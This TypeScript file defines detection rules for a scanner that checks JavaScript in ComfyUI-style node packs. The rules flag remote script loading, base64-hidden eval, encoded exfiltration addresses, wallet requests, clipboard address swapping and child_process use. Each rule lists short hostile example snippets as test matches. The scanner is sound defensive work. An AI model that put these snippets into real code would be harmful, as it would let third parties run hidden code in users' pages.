import type { Hit } from '../../ground/finding.ts'
import { argumentsOf, type CodeFacts } from '../flow/code-facts.ts'
import type { Call } from '../flow/flow.ts'
import { hostOf, isScriptHost, outerHostOf, showsHost } from '../flow/hosts.ts'
import { isBundle, isDataAddress, runsScript, sendsAway } from '../flow/javascript-library.ts'
import { has, isMade, type Value } from '../flow/values.ts'
import { callHits } from './code-calls.ts'
import { pageDataSent } from './page-data.ts'
import { managerRequest } from './receivers.ts'
import type { CodeRule } from './rule.ts'

/**
 * The constructor of a built-in function makes functions; the constructor of a pack's object makes such
 * objects.
 */
const functionMaker =
  /\.(constructor|filter|map|at|sort|find|flat|concat|slice|join|push|pop|shift|reverse|entries|keys|forEach|reduce|some|every|fill|includes|indexOf|toString|valueOf|call|apply|bind|sub|link|bold|big|blink|charAt|trim|split|replace)\.constructor$/

/** Assignments of the text or address of a script element. */
const putsIntoScript =
  /^element:script\.((src|href|text|textContent|innerText|innerHTML)=|append(Child)?|prepend|replaceChildren)$/

/** Whether the address contains the script itself. */
function isMadeAddress(code: Value | undefined): boolean {
  return (
    code?.names.includes('URL.createObjectURL()') === true ||
    code?.texts.some((text) => /^(data|blob):/i.test(text)) === true
  )
}

const mayBeFunction = (name: string) => !/\(\)$|^(element:|(local|session)Storage\b)/.test(name)

/** Returns the code that a page runs: the text, or the address of a script. */
function codeOf(call: Call): Value | undefined {
  const { name, args } = call
  if (/^(Function|AsyncFunction|GeneratorFunction)$/.test(name) || functionMaker.test(name))
    return args.at(-1)
  // A timer usually gets a function, so it runs no text.
  if (/^set(Timeout|Interval|Immediate)$/.test(name))
    return args[0]?.units.length || args[0]?.names.some(mayBeFunction) ? undefined : args[0]
  if (/^(Shared)?Worker$/.test(name) || putsIntoScript.test(name)) return args[0]
  if (/\.setAttribute$/.test(name) && args[0]?.texts.some((attribute) => /^on[a-z]+$/i.test(attribute)))
    return args[1]
  if (name === 'element:script.setAttribute')
    return args[0]?.texts.some((attribute) => /^(src|href)$/i.test(attribute)) ? args[1] : undefined
  return runsScript.test(name) && !/^document\.write|insertAdjacent|\.constructor$/.test(name)
    ? args[0]
    : undefined
}

/** Returns the markup that a call puts into the page. */
function markupOf({ name, args }: Call): Value | undefined {
  if (/\.insertAdjacentHTML$/.test(name)) return args[1]
  if (/\.setAttribute$/.test(name))
    return args[0]?.texts.some((attribute) => /^srcdoc$/i.test(attribute)) ? args[1] : undefined
  return /(^|\.)(document\.write(ln)?|createContextualFragment|(inner|outer)HTML=|srcdoc=)$/.test(name)
    ? args[0]
    : undefined
}

const scriptFromNetwork: CodeRule = {
  of: 'javascript',
  id: 'downloaded-script',
  severity: 'critical',
  why: 'The owner of that address controls the page of every user, and through it the tool.',
  fix: 'Put the script into the pack, where it can be read and checked.',
  examples: {
    matching: [
      'fetch("https://example.test/x.js").then(r => r.text()).then(code => eval(code))',
      'const r = await fetch(url); new Function(await r.text())()',
      'const s = document.createElement("script"); s.src = "https://example.test/x.js"; document.head.append(s)',
      'import("https://example.test/x.js")',
      'const t = await (await fetch("https://example.test/a.js")).text(); import(URL.createObjectURL(new Blob([t])))',
      'const w = window; w["ev" + "al"](await (await fetch("https://example.test/a")).text())',
      'window["ev" + "al".toString()](await (await fetch("https://example.test/a")).text())',
    ],
    harmless: [
      'const r = await fetch("/api/x"); const v = JSON.parse(await r.text())',
      'import { app } from "../../scripts/app.js"',
      'const s = document.createElement("script"); s.src = "./extensions/x/lib.js"',
      'const s = document.createElement("script"); s.src = "https://cdn.jsdelivr.net/npm/marked@4.3.0/marked.min.js"',
      'setTimeout(() => fetch("https://example.test/x"), 10)',
    ],
  },
  find: (facts) =>
    callHits(facts, (call) => {
      const code = codeOf(call)
      // Bundled libraries load parts of themselves from an address that their user provides.
      const isStranger = has(code, 'stranger')
      if (has(code, 'network') && (call.name !== 'import' || isStranger || isMadeAddress(code)))
        return {
          message: `\`${call.name}\` runs data from the network.`,
          severity: isStranger ? 'critical' : 'medium',
        }
      const markup = markupOf(call)
      // Known hubs show who wrote a description.
      if (has(markup, 'stranger') && !has(markup, 'hub'))
        return {
          message: 'Writes markup from another server into the page.',
          // The pack's own markup around it shows that a part of it was meant to be a text.
          severity: markup?.texts.some((text) => text.includes('<')) ? 'medium' : 'high',
        }
      if (writesElements.test(call.name) && call.args.some(({ texts }) => texts.some(hasForeignScript)))
        return { message: 'Writes an element that loads a script from another server.', severity: 'high' }
      const isScript = /^(element:script\.((src|href)=|setAttribute)|import|importScripts)$/.test(call.name)
      if (!isScript) return undefined
      const address = code?.texts.find((text) => hostOf(text) !== '')
      if (has(code, 'decoded'))
        return { message: 'Loads a script from an address that is hidden by an encoding.' }
      return address === undefined || isScriptHost(address)
        ? undefined
        : { message: 'Loads a script from another server.', severity: 'high' }
    }),
}

/** Scripts in these run. */
const writesElements = /\.srcdoc=$|^document\.write(ln)?$|createContextualFragment$/

function hasForeignScript(text: string): boolean {
  const [tag = ''] = /<script\b[^>]{0,500}/i.exec(text) ?? []
  const [, address = ''] = /\bsrc ?= ?["']?([^\s"'>]+)/i.exec(tag) ?? []
  return outerHostOf(address) !== '' && !isScriptHost(address)
}

const managerAsked: CodeRule = {
  of: 'javascript',
  id: 'manager-install',
  severity: 'low',
  why: 'The pack that the manager installs was not checked together with this one.',
  fix: 'Let the user install it in the manager.',
  examples: {
    matching: [
      'import { api } from "../../scripts/api.js"; api.fetchApi("/customnode/install/git_url", { method: "POST", body: "https://example.test/a.git" })',
      'function install(pack) { return fetch("/manager/queue/install", { method: "POST", body: JSON.stringify(pack) }) }',
    ],
    harmless: ['fetch("/customnode/getlist?mode=cache")'],
  },
  find: (facts) =>
    callHits(facts, (call) =>
      /(^|\.)(fetchApi|fetch|sendBeacon|post|open)$/.test(call.name)
        ? managerRequest(argumentsOf(call))
        : undefined,
    ),
}

const remoteScript: CodeRule = {
  of: 'javascript',
  id: 'hosted-script',
  severity: 'low',
  why: 'The page does not work without that server, which learns who uses the pack.',
  fix: 'Put the script into the pack.',
  examples: {
    matching: [
      'import("https://esm.sh/three@0.160.0")',
      'const s = document.createElement("script"); s.src = "https://unpkg.com/x@1.0.0/x.js"',
    ],
    harmless: ['import "./x.js"'],
  },
  find: (facts) =>
    callHits(facts, (call) =>
      (call.name === 'import' || /^element:script\.src=$/.test(call.name)) &&
      call.args[0]?.texts.some(isScriptHost)
        ? { message: 'Loads a script from a host of packages.' }
        : undefined,
    ),
}

const hiddenScript: CodeRule = {
  of: 'javascript',
  id: 'hidden-script',
  severity: 'critical',
  why: 'Code that is decoded before it runs hides what it does from everyone who reads it.',
  fix: 'Ship the code as readable JavaScript.',
  examples: {
    matching: [
      'eval(atob("YWxlcnQoMSk="))',
      'new Function(atob(x))()',
      'const f = window["eval"]; f(String.fromCharCode(97, 108, 101))',
      'setTimeout(atob("YWxlcnQoMSk="), 10)',
      '[]["filter"]["constructor"](atob(x))()',
      'const k = ["con", "struc", "tor"].join(""); (() => {})[k](atob(x))()',
    ],
    harmless: ['const image = atob(data)', 'setTimeout(() => atob(x), 10)', 'new Function("return this")()'],
  },
  find: (facts) =>
    callHits(facts, (call) => {
      const code = codeOf(call)
      if (isScriptAddress(call))
        return { message: 'Runs a script that is written into an address.', severity: 'high' }
      if (!has(code, 'decoded')) return undefined
      const message = `\`${call.name}\` runs something that is decoded first.`
      // Bundlers reuse short names, so only literal texts are reliable in a bundle.
      return isBundle(facts.text) && !code?.texts.length ? { message, severity: 'medium' } : { message }
    }),
}

function isScriptAddress({ name, args }: Call): boolean {
  const texts = /^(import|importScripts|element:script\.src=)$/.test(name) ? args[0]?.texts : undefined
  return (
    texts?.some((text) =>
      /^data:(text|application)\/(java|ecma)script[^,]*;base64,[A-Za-z0-9+/]{8}/i.test(text),
    ) === true
  )
}

const dynamicScript: CodeRule = {
  of: 'javascript',
  id: 'dynamic-script',
  severity: 'low',
  why: 'A shared workflow can contain the text that is run here.',
  fix: 'Parse the input.',
  examples: {
    matching: ['function f(x) { return eval(x) }', 'new Function("a", body)'],
    harmless: ['eval("1 + 1")', 'setTimeout(f, 1)'],
  },
  find: (facts) =>
    callHits(facts, (call) => {
      const code = /^(eval|Function|execScript)$/.test(call.name) ? codeOf(call) : undefined
      const isOpen = code !== undefined && isMade(code)
      return isOpen && !has(code, 'network', 'decoded')
        ? { message: `\`${call.name}\` runs a text that is made while the page is open.` }
        : undefined
    }),
}

const disguisedScript: CodeRule = {
  of: 'javascript',
  id: 'disguised-script',
  severity: 'high',
  why: 'Code in a file with a misleading name is meant to be overlooked.',
  fix: 'Give the file the extension `.js`.',
  examples: {
    matching: [
      'const s = document.createElement("script"); s.src = "/extensions/p/a.dat"',
      'import("./a.png")',
      'new Worker("/extensions/p/a.txt?v=1")',
      'eval(await (await fetch("/extensions/p/a.dat")).text())',
      'fetch("./a.json").then((r) => r.text()).then((t) => new Function(t)())',
      'const x = new XMLHttpRequest(); x.open("GET", "/extensions/p/a.dat", false); x.send(); eval(x.responseText)',
    ],
    harmless: [
      'const s = document.createElement("script"); s.src = "/extensions/p/a.min.js?v=1.2"',
      'import("./style.css")',
      'import("three@0.160")',
      'import("./" + name)',
      'fetch("/extensions/p/a.dat").then((r) => r.arrayBuffer())',
      'fetch("/extensions/p/a.dat").then((r) => r.text()).then(show); eval(x)',
      'eval(await (await fetch("/extensions/p/a.js")).text())',
    ],
  },
  find: (facts) =>
    callHits(facts, (call) => {
      const code = codeOf(call)
      if (takesAddress.test(call.name))
        return code?.texts.some((text) => isDataAddress(text) && !bundled.test(text))
          ? { message: 'Runs a file of the pack that is named like data.' }
          : undefined
      return has(code, 'data')
        ? { message: `\`${call.name}\` runs what a file of the pack holds that is named like data.` }
        : undefined
    }),
}

const takesAddress = /^(element:script\.((src|href)=|setAttribute)|import|importScripts|(Shared)?Worker)$/
/** File types that bundlers turn into scripts. */
const bundled = /\.([cm]?tsx?|jsx|css|json|wasm|vue)$/i

const hiddenReceiver: CodeRule = {
  of: 'javascript',
  id: 'hidden-receiver',
  severity: 'high',
  why: 'An address that is hidden by an encoding is meant not to be found.',
  fix: 'Write the address as it is.',
  examples: {
    matching: ['fetch(atob("aHR0cHM6Ly9leGFtcGxlLnRlc3Q="), { method: "POST", body: x })'],
    harmless: ['fetch(atob(x))', 'fetch("https://example.test")'],
  },
  find: (facts) =>
    callHits(facts, (call) =>
      sendsAway.test(call.name) &&
      has(call.args[0], 'decoded') &&
      call.args[0]?.texts.some((text) => hostOf(text) !== '' && !showsHost(text, facts.text))
        ? { message: 'Contacts an address that is hidden by an encoding.' }
        : undefined,
    ),
}

const walletAddress = /^(0x[0-9a-fA-F]{40}|bc1[0-9a-z]{25,60}|T[1-9A-HJ-NP-Za-km-z]{33})$/
const hasWalletAddress = ({ texts }: Value) => texts.some((text) => walletAddress.test(text))

/** Whether the script learns what the user copied, or that something was copied. */
export function watchesClipboard({ calls }: CodeFacts): boolean {
  return calls.some(
    ({ name, args }) =>
      /(^|\.)(clipboard\.read\w*|clipboardData\.getData|on(copy|cut)=)$/.test(name) ||
      (/(^|\.)addEventListener$/.test(name) && args[0]?.texts.some((type) => /^(copy|cut)$/.test(type))) ||
      (/(^|\.)execCommand$/.test(name) && args[0]?.texts.includes('paste')),
  )
}

/**
 * Finds addresses for payments that a script copies. A button can copy the author’s own address, if no script of the pack
 * watches the clipboard, and this one neither repeats itself nor listens for keys.
 */
export function* copiedAddresses(facts: CodeFacts, isWatched: boolean): Generator<Hit> {
  const isUnasked = isWatched || facts.calls.some(actsUnasked)
  yield* callHits(facts, ({ name, args }) =>
    /(^|\.)clipboard\.writeText$/.test(name) &&
    args.some((value) => hasWalletAddress(value) && (isUnasked || has(value, 'decoded', 'built')))
      ? { message: replaces }
      : undefined,
  )
}

const actsUnasked = ({ name, args }: Call) =>
  name === 'setInterval' ||
  (/(^|\.)addEventListener$/.test(name) &&
    args[0]?.texts.some((type) => /^(key\w+|focus|selectionchange|visibilitychange)$/.test(type)) === true)

const replaces = 'Replaces what the user copied by an address for payments.'

export const walletAccess: CodeRule = {
  of: 'javascript',
  id: 'wallet-access',
  severity: 'high',
  why: 'No comfy-node needs the user’s wallet.',
  fix: 'Remove it.',
  examples: {
    matching: [
      'await window.ethereum.request({ method: "eth_requestAccounts" })',
      'const w = window.solana; w.connect()',
    ],
    harmless: ['const ethereum = 1', 'app.request({ method: "x" })'],
  },
  find: (facts) =>
    callHits(facts, ({ name, args }) => {
      if (/^(ethereum|solana|phantom|tronWeb)\.\w+$/.test(name))
        return { message: 'Asks for the user’s wallet.' }
      // Only the event of a copy has such data.
      return /(^|\.)clipboardData\.setData$/.test(name) && args.some(hasWalletAddress)
        ? { message: replaces }
        : undefined
    }),
}

const nodeProcess: CodeRule = {
  of: 'javascript',
  id: 'script-process',
  severity: 'high',
  why: 'A script of a page has no business with programs; this one is meant to be run outside of it.',
  fix: 'Remove it. Keep a script for developers out of the archive, by a line in `.comfyignore`.',
  examples: {
    matching: ['require("child_process").exec("ls")'],
    harmless: ['require("./x")', 'const r = /x/.exec("x")'],
  },
  find: (facts) =>
    callHits(facts, ({ name, args }) =>
      name === 'require' && args[0]?.texts.some((text) => /^(node:)?child_process$/.test(text))
        ? { message: 'Starts programs from a script.' }
        : undefined,
    ),
}

export const scriptRules = [
  scriptFromNetwork,
  remoteScript,
  managerAsked,
  hiddenScript,
  dynamicScript,
  disguisedScript,
  pageDataSent,
  hiddenReceiver,
  walletAccess,
  nodeProcess,
]
